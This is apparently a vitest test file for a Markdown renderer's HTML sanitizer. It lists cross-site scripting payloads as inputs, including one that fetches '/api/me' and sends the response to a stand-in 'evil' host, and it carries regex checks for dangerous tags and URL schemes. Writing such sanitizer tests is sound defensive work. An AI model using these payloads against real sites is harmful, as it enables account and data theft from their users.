import { describe, expect, it } from "vitest";
import { markdownToPlainText, renderMarkdown } from "@/lib/markdown/render-markdown";

/**
 * Nothing that can run script may survive, whatever the payload's form. Checks real tags only:
 * text such as a code sample "onerror=alert(1)" is escaped ("<" becomes "&#x3C;") and inert.
 */
function expectInert(html: string) {
  const tags = html.match(/<[a-zA-Z][^>]*>/g) ?? [];
  for (const tag of tags) {
    expect(tag).not.toMatch(/^<(script|iframe|svg|object|embed|style|form|input|meta|link|base|details)\b/i);
    expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
    expect(tag).not.toMatch(/(href|src|action|formaction|xlink:href)\s*=\s*"?\s*(javascript|vbscript|data):/i);
  }
  // Every surviving URL attribute is http(s) or mailto.
  for (const m of html.matchAll(/\s(?:href|src)="([^"]*)"/g)) expect(m[1]).toMatch(/^(https?:|mailto:|#)/);
}

const PAYLOADS: [string, string][] = [
  ["script tag", "Hello <script>alert(1)</script> world"],
  ["script block", "<script>\nfetch('/api/me').then(r => r.text()).then(t => new Image().src = 'https://evil/?' + t)\n</script>"],
  ["img onerror", '<img src="x" onerror="alert(1)">'],
  ["img onerror unquoted", "<img src=x onerror=alert(1)//>"],
  ["javascript link (markdown)", "[click me](javascript:alert(1))"],
  ["javascript link mixed case and entities", "[x](JaVaScRiPt:alert(1)) [y](&#106;avascript:alert(1)) [z](java\tscript:alert(1))"],
  ["javascript link (html)", '<a href="javascript:alert(1)">x</a>'],
  ["javascript autolink", "<javascript:alert(1)>"],
  ["reference-style javascript link", "[x][1]\n\n[1]: javascript:alert(1)"],
  ["iframe", '<iframe src="https://evil.example"></iframe>'],
  ["svg onload", '<svg onload="alert(1)"><circle r="1"/></svg>'],
  ["svg script", "<svg><script>alert(1)</script></svg>"],
  ["data: image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["data: html link", "[x](data:text/html,<script>alert(1)</script>)"],
  ["vbscript link", "[x](vbscript:msgbox(1))"],
  ["style tag", "<style>body{background:url(javascript:alert(1))}</style>"],
  ["event handler on allowed tag", '<p onclick="alert(1)">hi</p><details open ontoggle=alert(1)>'],
  ["object/embed", '<object data="x.swf"></object><embed src="x.swf">'],
  ["form", '<form action="https://evil"><input name="password"></form>'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["html in code is escaped, not executed", "`<script>alert(1)</script>`\n\n```html\n<img src=x onerror=alert(1)>\n```"],
];

describe("renderMarkdown sanitizing", () => {
  it.each(PAYLOADS)("neutralizes %s", (_name, payload) => {
    expectInert(renderMarkdown(payload));
  });

  it("keeps code samples visible as escaped text", () => {
    const html = renderMarkdown("`<script>alert(1)</script>`");
    expect(html).toContain("&#x3C;script>alert(1)&#x3C;/script>");
  });

  it("keeps ordinary Markdown: headings, emphasis, lists, code, tables and safe links", () => {
    const html = renderMarkdown(
      "## Gradients\n\n**Why** do they *vanish*?\n\n- sigmoid\n- tanh\n\n```python\nx = 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[paper](https://arxiv.org/abs/1211.5063)",
    );
    expect(html).toContain("<h2>Gradients</h2>");
    expect(html).toContain("<strong>Why</strong>");
    expect(html).toContain("<em>vanish</em>");
    expect(html).toContain("<li>sigmoid</li>");
    expect(html).toContain('<code class="language-python">');
    expect(html).toContain("<table>");
    expect(html).toContain('href="https://arxiv.org/abs/1211.5063"');
    expect(html).toContain('rel="nofollow noopener noreferrer"');
  });

  it("prefixes ids so user content cannot clobber page globals", () => {
    const html = renderMarkdown("Note[^1]\n\n[^1]: footnote");
    expect(html).toMatch(/id="user-content-/);
  });

  it("produces plain text for snippets and exports", () => {
    expect(markdownToPlainText("**Bold** <script>x</script> & `code`")).toBe("Bold x & code");
  });
});
